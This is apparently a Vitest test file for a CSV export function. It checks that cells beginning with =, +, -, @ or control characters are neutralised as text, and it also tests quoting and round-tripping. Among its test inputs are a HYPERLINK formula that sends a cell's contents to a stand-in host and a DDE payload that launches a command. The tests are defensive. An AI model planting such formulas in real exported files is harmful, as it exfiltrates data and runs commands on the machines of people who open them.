import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { csvCell, readCsvCell, toCsv } from "../../src/csv/write-csv";

/** What the product's own parser (the import: papaparse) reads back from a file. */
const parse = (csv: string) => Papa.parse<string[]>(csv, { header: false }).data;

describe("csvCell: formula cells are inert", () => {
  it.each([
    ["=HYPERLINK(\"https://evil.example?\"&A1)", "\"'=HYPERLINK(\"\"https://evil.example?\"\"&A1)\""],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
  ])("%j is written as text", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it("a leading CR or LF is neutralized and the cell quoted", () => {
    expect(csvCell("\r=1+1")).toBe("\"'\r=1+1\"");
    expect(csvCell("\n=1+1")).toBe("\"'\n=1+1\"");
  });

  it("a trigger that is not first leaves the cell alone", () => {
    expect(csvCell("Fresh bread = happiness")).toBe("Fresh bread = happiness");
    expect(csvCell("a-b")).toBe("a-b");
    expect(csvCell("owner@demo.test")).toBe("owner@demo.test");
  });

  it("a formula hidden behind a separator stays in its own quoted cell", () => {
    // The classic `"=1+2";=1+2` probe: quoting keeps it one neutralized cell, not two.
    const line = toCsv([["x\",=1+2", "=1+2"]]);
    expect(line).toBe("\"x\"\",=1+2\",'=1+2");
    expect(parse(line)).toEqual([["x\",=1+2", "'=1+2"]]);
  });
});

describe("csvCell: RFC 4180 quoting", () => {
  it("quotes commas, quotes and line breaks, doubling inner quotes", () => {
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line one\nline two")).toBe('"line one\nline two"');
    expect(csvCell("crlf\r\nhere")).toBe('"crlf\r\nhere"');
    expect(csvCell("plain")).toBe("plain");
  });

  it("writes numbers as numbers (negative included), booleans as words, nothing as empty", () => {
    expect(csvCell(42)).toBe("42");
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(0.25)).toBe("0.25");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(false)).toBe("false");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell("")).toBe("");
  });

  it("treats a non-finite number like text, so -Infinity is not a formula either", () => {
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCell(Number.NaN)).toBe("NaN");
  });

  it("a numeric string is text: pass numbers as numbers", () => {
    expect(csvCell("-5")).toBe("'-5");
  });
});

describe("toCsv", () => {
  it("joins cells with commas and records with CRLF, without a trailing line break", () => {
    expect(toCsv([["a", "b"], [1, null]])).toBe("a,b\r\n1,");
    expect(toCsv([])).toBe("");
  });

  it("round-trips through the import's parser: every cell comes back, formulas inert until read", () => {
    const rows = [
      ["content", "accounts", "n"],
      ["Hello, world", "@northwind|@northwind_eu", "3"],
      ['She said "yes"\r\non two lines', "=1+1", "-4"],
      ["🍞 #bakery", "\ttabbed", ""],
      ["+44 20 7946 0000", "@SUM(A1)", "plain"],
    ];
    const csv = toCsv(rows);
    const parsed = parse(csv);
    // Every cell that starts with a trigger arrives as text behind a quote…
    expect(parsed[2]?.[1]).toBe("'=1+1");
    expect(parsed[4]?.[0]).toBe("'+44 20 7946 0000");
    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    // …and reading it back gives exactly what was written.
    expect(parsed.map((row) => row.map(readCsvCell))).toEqual(rows);
  });

  it("numbers round-trip as their digits", () => {
    const parsed = parse(toCsv([[1, -2.5, 1e21]]));
    expect(parsed).toEqual([["1", "-2.5", "1e+21"]]);
  });
});

describe("readCsvCell", () => {
  it("drops only a neutralizing quote", () => {
    expect(readCsvCell("'=1+1")).toBe("=1+1");
    expect(readCsvCell("'@northwind")).toBe("@northwind");
    expect(readCsvCell("'tis the season")).toBe("'tis the season");
    expect(readCsvCell("'")).toBe("'");
    expect(readCsvCell("@northwind")).toBe("@northwind");
  });
});
